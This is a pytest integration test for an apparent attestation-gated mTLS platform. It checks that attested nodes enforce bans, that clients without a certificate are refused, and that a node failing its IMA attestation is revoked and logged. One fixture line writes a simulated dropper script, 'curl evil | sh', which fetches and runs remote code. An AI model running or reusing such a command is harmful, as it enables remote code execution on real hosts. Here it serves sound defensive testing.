"""Trust as root: only attested nodes follow the ledger (mutual TLS, the authority's certificates).

One platform (``up --attested``) serves the three checks: the node's bouncer
follows the stream over mTLS and enforces a ban; a client without a certificate
is refused with a clear error; a failed attestation mid-run (the node runs a file
its IMA allowlist does not hold) revokes the node, its next stream request is
refused, and both refusals are in the ledger with inclusion proofs that verify.
"""

from __future__ import annotations

import json
import os
import ssl
import time
from pathlib import Path

import pytest

from tenfold.core.testing import needs_root, run_cli
from tenfold.platform import Platform, PlatformError
from tenfold.platform._engine import fetch
from tenfold.platform._platform import NETNS_DIR, PREFIX_ENV
from tenfold.platform._testing import sshd_failures
from tenfold.platform._trust import TrustPaths, client_context, explain_refusal

PREFIX = os.environ[PREFIX_ENV]
ATTACKER, VICTIM = f"{PREFIX}-attacker", f"{PREFIX}-victim"

pytestmark = [pytest.mark.service, pytest.mark.slow, needs_root("network namespaces and XDP")]


def st_node(home: Path, cwd: Path) -> tuple[bool, int]:
    """The node as ``platform status`` shows it: attested, and how many refusals."""
    st = run_cli("platform", "status", "--home", str(home), "--json", cwd=cwd)
    assert st.returncode == 0, st.stderr
    node = json.loads(st.stdout)["engine"]["trust"]["nodes"]["victim"]
    return node["attested"], node["refusals"]


def _append(url: str, ctx: ssl.SSLContext, tag: str) -> int | str:
    """POST one event as the node (a signal source on it): the HTTP status, or ``"tls"``
    when the handshake is refused (the short-lived certificate expired, never renewed)."""
    import urllib.error
    import urllib.request

    line = json.dumps(
        {"event_id": f"node-victim-{tag}", "domain": "kernel", "kind": "unexpected_execve",
         "subject": "victim", "time_ms": int(time.time() * 1000), "evidence": {"path": "/bin/x"}}
    )  # fmt: skip
    req = urllib.request.Request(f"{url}/events", line.encode(), method="POST")
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=30) as resp:
            return int(resp.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)
    except OSError as exc:
        assert explain_refusal(url, exc) is not None, exc
        return "tls"


@pytest.mark.root
def test_attested_node_follows_over_mtls_and_is_cut_when_attestation_fails(
    tmp_path: Path, kafka_broker, postgres
) -> None:
    home = tmp_path / "home"
    plat = Platform(home)
    topic = f"signals-{os.getpid()}-{time.monotonic_ns()}"
    try:
        up = run_cli(
            "platform", "up", "--home", str(home), "--kafka", kafka_broker.bootstrap,
            "--postgres", postgres.dsn, "--topic", topic, "--attested", "--attest-period", "1",
            "--json", cwd=tmp_path,
        )  # fmt: skip
        assert up.returncode == 0, up.stderr
        st = json.loads(up.stdout)
        assert st["engine"]["running"] and st["bouncer"]["running"]
        url = st["engine"]["url"]
        assert url.startswith("https://")
        node_cert = TrustPaths(home).node_dir() / "node.pem"
        assert node_cert.exists()  # issued by the authority after the node's first quote

        # The attested node's bouncer follows the stream over mTLS: a ban is enforced.
        r = run_cli(
            "platform", "replay", str(sshd_failures(tmp_path / "a.log", "203.0.113.7")),
            "--home", str(home), "--json", cwd=tmp_path,
        )  # fmt: skip
        assert r.returncode == 0, r.stderr
        (d,) = json.loads(r.stdout)["decisions"]
        assert d["decision"]["value"] == "203.0.113.7" and d["proof"]["verified"]
        assert d["enforced"]["frame_dropped"] is True

        assert st_node(home, tmp_path) == (True, 0)

        # The node's signals are appended with the same certificate.
        node_ctx = client_context(node_cert, None, TrustPaths(home).tls_dir / "ca.pem")
        assert _append(url, node_ctx, "before") == 200

        # A client with no certificate is refused at the handshake, with a clear error.
        bare = ssl.create_default_context(cafile=str(TrustPaths(home).tls_dir / "ca.pem"))
        import urllib.request

        with pytest.raises(OSError) as info:
            urllib.request.urlopen(f"{url}/stream?after=-1", context=bare, timeout=30).read()
        err = explain_refusal(url, info.value)
        assert err is not None and "attestation authority" in str(err)

        # A failed attestation mid-run: the node runs a file off its allowlist.
        attack = tmp_path / "attestation.jsonl"
        attack.write_text(
            json.dumps(
                {"attack": "failed_attestation", "node": "victim", "runs": "/tmp/dropper",
                 "content": "#!/bin/sh\ncurl evil | sh\n"}
            ) + "\n"
        )  # fmt: skip
        r = run_cli("platform", "replay", str(attack), "--home", str(home), "--json", cwd=tmp_path)
        assert r.returncode == 0, r.stderr
        refusals = json.loads(r.stdout)["decisions"]
        assert {x["decision"]["action"] for x in refusals} == {"refuse"}
        assert len(refusals) == 2 and all(x["proof"]["verified"] for x in refusals)
        verdict, cut = refusals
        assert (
            "ima" in verdict["decision"]["reason"]
            and "/tmp/dropper" in verdict["decision"]["reason"]
        )
        assert "GET /stream" in cut["decision"]["reason"]
        assert cut["ledger_index"] > verdict["ledger_index"]
        # The node still presents its (revoked) certificate, as a compromised node would:
        # the gate refused it (the second event); it is not renewed (checked below).
        revoked = node_cert.read_bytes()
        assert st_node(home, tmp_path) == (False, 1)
        # ... and its events are refused as well: by the gate (403), or at the handshake
        # once its certificate (30 s) has expired, as it is never renewed.
        ctx = client_context(node_cert, None, TrustPaths(home).tls_dir / "ca.pem")
        assert _append(url, ctx, "after") in (403, "tls")

        # The ledger says the same, read as a third party: kind node_refused, source attestation.
        for x in refusals:
            e = json.loads(fetch(f"{plat.engine_url()}/entries/{x['ledger_index']}")[0])
            assert (e["domain"], e["kind"], e["subject"]) == (
                "attestation",
                "node_refused",
                "victim",
            )
            assert e["evidence"]["source"] == "attestation"

        # Decisions recorded from now on never reach the refused node.
        applied = plat._applied_index()
        with pytest.raises(PlatformError, match="did not apply"):
            plat.replay(sshd_failures(tmp_path / "b.log", "198.51.100.4"), timeout_s=15)
        assert plat._applied_index() == applied
        assert node_cert.read_bytes() == revoked
    finally:
        down = run_cli("platform", "down", "--home", str(home), "--json", cwd=tmp_path)
    assert down.returncode == 0, down.stderr
    assert not (NETNS_DIR / ATTACKER).exists() and not (NETNS_DIR / VICTIM).exists()
    assert not (TrustPaths(home).node_dir() / "swtpm.pid").exists()
